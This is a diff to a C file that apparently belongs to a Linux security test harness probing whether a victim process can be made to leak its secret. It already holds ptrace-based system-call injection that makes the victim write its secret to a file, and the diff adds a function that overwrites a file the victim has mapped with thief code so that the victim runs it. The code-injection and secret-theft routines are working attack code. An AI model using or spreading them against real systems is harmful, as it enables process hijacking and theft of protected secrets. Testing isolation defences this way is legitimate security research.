@@ -1,5 +1,5 @@
 /*
- * code.c - a tracer that makes the victim itself hand out its secret: what no protection of pages stops.
+ * code.c - the victim itself is made to hand out its secret: what no protection of pages stops.
  */
 #include "attack.h"
 
@@ -14,6 +14,8 @@
 #include <unistd.h>
 
 #include "arch.h"
+
+enum { PATIENCE = 40, STEP_MS = 50 };
 
 /* One system call by a stopped thread. */
 static long make_call(pid_t pid, const struct user_regs_struct *from, long number, const uint64_t args[4])
@@ -88,10 +90,39 @@ static int inject(struct attack *a)
 	return result;
 }
 
+/* Without a tracer: new code into a file that the victim has mapped and runs. */
+static int overwrite_file(struct attack *a)
+{
+	char code[] = ARCH_THIEF "/tmp/attack.XXXXXX";
+	char *path = code + sizeof(ARCH_THIEF) - 1;
+	int loot, fd, result = -ENODATA;
+
+	if (a->target.code[0] == '\0')
+		return not_here(a, "the victim has no --code");
+	loot = mkstemp(path);
+	if (loot < 0 || fchmod(loot, 0666) < 0)
+		return not_here(a, "no file");
+	fd = open_path(a->target.code, O_RDWR);
+	if (fd >= 0)
+		result = pwrite(fd, code, sizeof(code), 0) < 0 ? -errno : 0;
+	for (int i = 0; fd >= 0 && (result == 0 || result == -ENODATA) && i < PATIENCE; i++) {
+		moment(STEP_MS);
+		result = saw_file(a, loot);
+	}
+	if (fd >= 0)
+		(void)!pwrite(fd, ARCH_RETURN, 1, 0);
+	(void)unlink(path);
+	if (fd < 0)
+		return fd;
+	return result == -ENODATA ? ALLOWED : result;
+}
+
 const struct row code_rows[] = {
 	{ .name = "inject_heap", .vector = "ptrace_attach", .what = "system calls injected: the victim writes its secret to a file",
 	  .run = inject, .text = "h", .number = BY_ATTACH },
 	{ .name = "inject_secretmem", .vector = "ptrace_attach", .what = "the same, from memfd_secret", .run = inject,
 	  .text = "s", .number = BY_SEIZE },
+	{ .name = "code_file", .vector = "foreign_memory", .what = "new code into a mapped file, which the victim then runs",
+	  .run = overwrite_file },
 	{ 0 },
 };
